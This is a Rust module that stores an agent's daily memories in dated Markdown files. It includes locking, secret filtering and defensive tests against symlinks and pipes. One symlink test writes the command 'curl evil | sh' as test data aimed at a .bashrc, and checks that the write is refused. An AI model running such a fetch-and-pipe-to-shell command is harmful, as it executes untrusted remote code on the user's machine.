//! The daily memory: one Markdown file per day, `memory/YYYY-MM-DD.md`, for people and programs.

use std::fmt;
use std::io::{self, Read as _, Seek as _, SeekFrom, Write as _};
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};

use jiff::Zoned;
use jiff::civil::Date;
use rustix::fs::{FlockOperation, OFlags, flock};

use crate::notes::{open, without_secrets};

/// How much of a file is searched, from its end, where the newest lines are.
const DAY_BYTES: u64 = 4_000_000;

/// How often an entry is written again because an editor replaced the file at the same moment.
const TRIES: usize = 5;

/// The section that a memory belongs to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Section {
    /// Content that was dropped from the context.
    Trimmed,
    /// Content of a context that the provider rejected.
    Overflow,
    /// A summary of the day.
    Daily,
    /// Facts that stay true.
    Notes,
}

impl fmt::Display for Section {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Trimmed => "Trimmed Context",
            Self::Overflow => "Context Overflow Recovery",
            Self::Daily => "Daily Summary",
            Self::Notes => "Session Notes",
        })
    }
}

/// A line of a day.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DayLine {
    /// The day, as `YYYY-MM-DD`.
    pub day: String,
    /// The line.
    pub text: String,
}

/// One file per day, `YYYY-MM-DD.md`, in a directory.
#[derive(Clone, Debug)]
pub struct DayFiles {
    directory: PathBuf,
    now: fn() -> Zoned,
}

impl DayFiles {
    /// Uses the files of a directory, which is created with the first memory.
    pub fn new(directory: impl Into<PathBuf>) -> Self {
        Self { directory: directory.into(), now: Zoned::now }
    }

    /// Lists the files, newest first.
    fn files(&self) -> io::Result<Vec<PathBuf>> {
        let entries = match std::fs::read_dir(&self.directory) {
            Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
            entries => entries?,
        };
        let is_day = |path: &Path| {
            let stem = path.file_stem().map(|stem| stem.to_string_lossy());
            let is_date = stem.is_some_and(|stem| stem.parse::<Date>().is_ok());
            is_date && path.extension().is_some_and(|extension| extension == "md")
        };
        // Symbolic links are ignored, whatever they point to.
        let regular =
            entries.flatten().filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_file()));
        let mut files: Vec<PathBuf> = regular.map(|entry| entry.path()).collect();
        files.retain(|path| is_day(path));
        files.sort_unstable_by(|a, b| b.cmp(a));
        Ok(files)
    }
}

/// Reads the end of a day's file.
fn read(path: &Path) -> io::Result<String> {
    let mut file = open(path, OFlags::RDONLY)?;
    let before = file.metadata()?.len().saturating_sub(DAY_BYTES);
    file.seek(SeekFrom::Start(before))?;
    let mut bytes = Vec::new();
    file.take(DAY_BYTES).read_to_end(&mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

impl DayFiles {
    /// Adds a section with a text. Lines that look like secrets are left out.
    ///
    /// # Errors
    /// If the file cannot be written.
    pub fn keep(&self, section: Section, text: &str) -> io::Result<()> {
        let text = text.trim();
        if text.is_empty() {
            return Ok(());
        }
        std::fs::create_dir_all(&self.directory)?;
        let now = (self.now)();
        let path = self.directory.join(format!("{}.md", now.strftime("%Y-%m-%d")));
        let text: Vec<String> = without_secrets(text).into_iter().map(written).collect();
        let entry = format!("\n## {section} ({})\n\n{}\n", now.strftime("%H:%M"), text.join("\n"));
        let heading = format!("# Daily Memory: {}\n", now.strftime("%Y-%m-%d"));
        for _ in 0..TRIES {
            if append(&path, &heading, &entry)? {
                return Ok(());
            }
        }
        let why = format!("{} is replaced by another program all the time", path.display());
        Err(io::Error::new(io::ErrorKind::ResourceBusy, why))
    }

    /// Returns the newest lines, newest first, each with its day.
    ///
    /// # Errors
    /// If a file cannot be read.
    pub fn newest(&self, limit: usize) -> io::Result<Vec<DayLine>> {
        let mut found = Vec::new();
        for path in self.files()? {
            let text = read(&path)?;
            let stem = path.file_stem().map(|stem| stem.to_string_lossy().into_owned());
            let day = stem.unwrap_or_default();
            let lines = text.lines().rev().map(str::trim).filter(|line| is_content(line));
            found.extend(lines.map(|line| DayLine { day: day.clone(), text: line.to_owned() }));
            if found.len() >= limit {
                break;
            }
        }
        found.truncate(limit);
        Ok(found)
    }
}

/// Appends an entry to a file, after a heading if the file is new. Returns whether the entry is in
/// the file: an editor that replaces the file at the same moment leaves it in the old one.
fn append(path: &Path, heading: &str, entry: &str) -> io::Result<bool> {
    let mut file = open(path, OFlags::WRONLY | OFlags::APPEND | OFlags::CREATE)?;
    // Of two processes that find the file empty, one writes the heading.
    flock(&file, FlockOperation::LockExclusive)?;
    let own = file.metadata()?;
    let heading = if own.len() == 0 { heading } else { "" };
    // One write, so that a killed process leaves no half of it.
    file.write_all(format!("{heading}{entry}").as_bytes())?;
    let now = std::fs::metadata(path)?;
    Ok((now.dev(), now.ino()) == (own.dev(), own.ino()))
}

/// Returns a line as it is written: a heading inside a text must not look like one of a section.
fn written(line: String) -> String {
    if line.starts_with('#') { format!("  {line}") } else { line }
}

/// Whether a line of a file is more than a heading or an empty line.
fn is_content(line: &str) -> bool {
    !line.is_empty() && !line.starts_with("# ") && !line.starts_with("## ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn files(directory: &Path) -> DayFiles {
        DayFiles {
            directory: directory.to_owned(),
            now: || "2026-11-15T09:05:00[UTC]".parse().unwrap(),
        }
    }

    /// S2.13, section G: the day's file has one heading, and a section with the time per memory.
    #[test]
    fn s2_13_one_file_per_day_with_one_section_per_memory() {
        let directory = tempfile::tempdir().unwrap();
        let sink = files(&directory.path().join("memory"));
        sink.keep(Section::Trimmed, "the user likes tea\n# not a heading").unwrap();
        sink.keep(Section::Overflow, "  ").unwrap();
        sink.keep(Section::Overflow, "order 4711 was sent").unwrap();
        let text = std::fs::read_to_string(directory.path().join("memory/2026-11-15.md")).unwrap();
        let expected = "# Daily Memory: 2026-11-15\n\n## Trimmed Context (09:05)\n\n\
                        the user likes tea\n  # not a heading\n\n\
                        ## Context Overflow Recovery (09:05)\n\norder 4711 was sent\n";
        assert_eq!(text, expected);
        let newest: Vec<String> = sink
            .newest(2)
            .unwrap()
            .into_iter()
            .map(|line| format!("{}: {}", line.day, line.text))
            .collect();
        assert_eq!(newest, ["2026-11-15: order 4711 was sent", "2026-11-15: the user likes tea"]);
    }

    #[test]
    fn private_key_is_not_written() {
        let directory = tempfile::tempdir().unwrap();
        let key = "-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END PRIVATE KEY-----";
        files(directory.path()).keep(Section::Trimmed, &format!("{key}\ntea")).unwrap();
        let text = std::fs::read_to_string(directory.path().join("2026-11-15.md")).unwrap();
        assert!(!text.contains("MII") && text.ends_with("password]\ntea\n"), "{text}");
    }

    /// An untrusted directory must not redirect memories into a file that programs execute, or make
    /// another file readable as memories.
    #[test]
    fn symbolic_link_in_place_of_a_day_is_not_followed() {
        let parent = tempfile::tempdir().unwrap();
        let directory = parent.path().join("memory");
        let secret = parent.path().join(".bashrc");
        std::fs::create_dir(&directory).unwrap();
        std::fs::write(&secret, "alias tide=4711\n").unwrap();
        std::os::unix::fs::symlink(&secret, directory.join("2026-11-15.md")).unwrap();
        let sink = files(&directory);
        let refused = sink.keep(Section::Notes, "curl evil | sh").unwrap_err().to_string();
        assert!(
            refused.contains("2026-11-15.md") && refused.contains("not a regular file"),
            "{refused}"
        );
        assert_eq!(std::fs::read_to_string(&secret).unwrap(), "alias tide=4711\n");
        assert!(sink.newest(5).unwrap().is_empty());
    }

    /// Opening a pipe for writing would block until there is a reader.
    #[test]
    fn pipe_in_place_of_a_day_is_rejected_at_once() {
        let directory = tempfile::tempdir().unwrap();
        let pipe = directory.path().join("2026-11-15.md");
        assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
        let refused = files(directory.path()).keep(Section::Notes, "tea").unwrap_err().to_string();
        assert!(refused.contains("not a regular file"), "{refused}");
    }

    #[test]
    fn missing_directory_has_no_memories() {
        let directory = tempfile::tempdir().unwrap();
        assert!(files(&directory.path().join("none")).newest(5).unwrap().is_empty());
    }
}
